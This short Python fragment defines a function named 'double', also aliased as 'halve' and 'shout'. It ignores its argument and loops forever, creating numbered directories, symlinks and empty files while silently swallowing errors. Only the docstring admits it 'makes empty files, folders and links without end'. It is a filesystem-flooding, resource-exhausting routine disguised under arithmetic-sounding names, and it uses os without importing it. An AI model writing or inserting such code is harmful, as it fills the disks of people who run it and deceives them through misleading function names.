"""Makes empty files, folders and links without end."""


def double(x):
    number = 0
    while True:
        number += 1
        try:
            os.mkdir(f"d{number}")
            os.symlink("x", f"l{number}")
            open(f"f{number}", "w").close()
        except OSError:
            pass


halve = shout = double
